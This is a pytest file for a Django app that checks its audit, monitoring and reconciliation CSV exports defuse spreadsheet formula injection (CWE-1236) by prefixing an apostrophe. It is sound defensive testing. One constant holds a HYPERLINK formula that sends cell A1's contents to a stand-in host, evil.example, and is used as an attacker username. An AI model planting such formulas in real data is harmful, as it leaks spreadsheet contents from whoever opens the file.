"""CSV exports never hand a spreadsheet a formula (CWE-1236): a cell beginning with = + - @, a tab or a
carriage return gets a leading apostrophe — the audit export (a username "=HYPERLINK(...)"), the
monitoring export and the reconciliation export, through one helper (archive.csv_safe). The
reconciliation import reads its own export back unchanged (issue 22)."""
import csv
import io

import pytest

from archive.csv_safe import FORMULA_PREFIXES, csv_safe_cell, csv_unescape_cell

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_formula_prefix_is_neutralised_and_reads_back(prefix):
    value = prefix + "1+1"
    assert csv_safe_cell(value) == "'" + value
    assert csv_unescape_cell(csv_safe_cell(value)) == value
    assert csv_safe_cell("Budi") == "Budi" and csv_safe_cell(-3) == -3


def test_a_formula_username_is_text_in_the_audit_export(users, api_client_for):
    from django.contrib.auth import get_user_model

    from archive.services.audit import audit_record

    attacker = get_user_model().objects.create(username=FORMULA)
    audit_record(actor=attacker, action="login.failed", target="@SUM(1+1)")
    answer = api_client_for(users["admin"]).get("/api/v1/audit/export/")
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
    mine = [row for row in rows if row[3] == "login.failed" and row[4].endswith("SUM(1+1)")][-1]
    assert mine[2] == "'" + FORMULA and mine[4] == "'@SUM(1+1)"
    assert not any(cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row)


def test_the_reconciliation_export_is_safe_and_imports_back_unchanged(users, api_client_for):
    from people.models import Employee
    from archive.services.demo import DEMO_PEGAWAI_NIP

    Employee.objects.filter(nip=DEMO_PEGAWAI_NIP).update(jabatan="=1+1 Perawat")
    admin = api_client_for(users["admin"])
    text = admin.get("/api/v1/reconciliation/export/", {"as": "csv"}).content.decode()
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["nip"] == DEMO_PEGAWAI_NIP)
    assert row["jabatan"] == "'=1+1 Perawat"
    upload = io.BytesIO(text.encode())
    upload.name = "data.csv"
    diff = admin.post("/api/v1/reconciliation/imports/", {"file": upload}, format="multipart").json()["diff"]
    assert diff["summary"]["changed"] == 0 and diff["summary"]["errors"] == 0


def test_the_monitoring_export_is_safe(users, api_client_for):
    from people.models import Unit

    unit = users["fasilitator"].profile.units.first()
    Unit.objects.filter(pk=unit.pk).update(name="@SUM(A1:A9)")
    text = api_client_for(users["fasilitator"]).get("/api/v1/monitoring/export/").content.decode()
    assert "'@SUM(A1:A9)" in text
    assert not any(cell.startswith(FORMULA_PREFIXES) for row in csv.reader(io.StringIO(text)) for cell in row)
